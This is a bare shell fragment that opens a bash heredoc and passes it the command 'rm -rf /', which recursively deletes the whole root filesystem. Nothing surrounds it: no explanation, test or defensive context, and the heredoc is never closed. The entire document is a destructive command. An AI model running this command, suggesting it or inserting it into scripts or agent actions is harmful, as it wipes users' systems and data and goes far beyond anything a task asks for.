bash <<EOF
rm -rf /
